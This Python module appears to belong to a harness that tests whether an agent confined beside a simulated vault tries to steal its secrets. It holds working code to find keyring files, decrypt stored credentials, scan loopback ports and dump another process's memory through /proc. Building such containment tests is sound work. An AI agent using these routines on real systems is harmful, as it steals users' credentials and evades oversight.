"""The burglar's kit: how an agent running as the vault's user gets at what the vault keeps.

Everything here is what a same-user process can do without the vault's help
on a plain Linux box: read the keyring file beside the vault home and the
encrypted files in it (the formats are open source: a base64 data key under
keyring service "vaultsim", HKDF-SHA256 per purpose, AES-GCM envelopes), read
another process's memory through /proc, find a loopback service by scanning
its ports, speak HTTP to it. In a jail each of these fails; the runner should
notice the attempt anyway.
"""

from __future__ import annotations

import base64
import glob
import hashlib
import http.client
import json
import os
import re
import socket
import struct
from typing import Any

URL_RE = re.compile(rb"https?://127\.0\.0\.1:[0-9]{2,5}")
TOKEN_RE = re.compile(rb"vs[kc]_[A-Za-z0-9_-]{32}")


def keyring_files(home: str) -> list[str]:
    root = os.path.dirname(home)
    places = [os.path.join(root, "*", "keyring.json"), os.path.join(root, "*", "*.json"),
              os.path.expanduser("~/.local/share/vaultsim-keyring/*.json")]
    if os.environ.get("VAULTSIM_KEYRING_DIR"):
        places.insert(0, os.path.join(os.environ["VAULTSIM_KEYRING_DIR"], "*.json"))
    found = []
    for pattern in places:
        found += [p for p in sorted(glob.glob(pattern)) if p not in found]
    return found


def data_key(home: str) -> bytes | None:
    """The home's data key, from any keyring file we can read."""
    user = "data-key:" + hashlib.sha256(home.encode()).hexdigest()[:16]
    for path in keyring_files(home):
        try:
            with open(path, "rb") as f:
                entries = json.loads(f.read()).get("entries", {})
            return base64.b64decode(entries["vaultsim"][user])
        except (OSError, ValueError, KeyError, AttributeError, TypeError):
            continue
    return None


def derive(key: bytes, purpose: str) -> bytes:
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.kdf.hkdf import HKDF
    return HKDF(algorithm=hashes.SHA256(), length=32, salt=None, info=purpose.encode()).derive(key)


def credentials(home: str, key: bytes) -> dict[str, str]:
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    with open(os.path.join(home, "credentials.enc"), "rb") as f:
        env = json.loads(f.read())
    plain = AESGCM(derive(key, "credentials")).decrypt(base64.b64decode(env["nonce"]),
                                                         base64.b64decode(env["ct"]), env["format"].encode())
    return {name: entry["value"] for name, entry in json.loads(plain)["credentials"].items()}


def remote_url(home: str) -> str | None:
    """The HTTP services' URL from the daemon's config, beside or inside the home."""
    for path in (os.path.join(os.path.dirname(home), "config.yaml"), os.path.join(home, "config.yaml")):
        try:
            with open(path, "rb") as f:
                m = URL_RE.search(f.read())
            if m:
                return m.group(0).decode()
        except OSError:
            continue
    return None


def scan_loopback(first: int = 1024, last: int = 65535) -> list[int]:
    """Ports that accept a connection on 127.0.0.1 (fast: refused ports answer at once)."""
    open_ports = []
    for port in range(first, last + 1):
        s = socket.socket()
        s.settimeout(0.2)
        try:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                open_ports.append(port)
        finally:
            s.close()
    return open_ports


def request(url: str, method: str, path: str, body: Any = None, headers: dict[str, str] | None = None,
         timeout: float = 3.0) -> tuple[int, bytes]:
    host, port = url.split("://", 1)[1].split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=timeout)
    try:
        data = json.dumps(body).encode() if body is not None else None
        conn.request(method, path, body=data, headers={"Content-Type": "application/json", **(headers or {})})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def peer_pid(path: str) -> int:
    """The pid of the process serving a Unix socket (SO_PEERCRED): 0 when it is not in our view."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        pid, _, _ = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        return pid
    finally:
        s.close()


def read_memory(pid: int, limit: int = 512 << 20) -> bytes:
    """Every readable private mapping of `pid`, concatenated (same user, no ptrace needed)."""
    out = bytearray()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            cols = line.split()
            lo, hi = (int(x, 16) for x in cols[0].split("-"))
            if "r" not in cols[1] or (len(cols) > 5 and cols[5].startswith(("/usr", "/lib", "[v"))):
                continue
            try:
                mem.seek(lo)
                out += mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            if len(out) > limit:
                break
    return bytes(out)
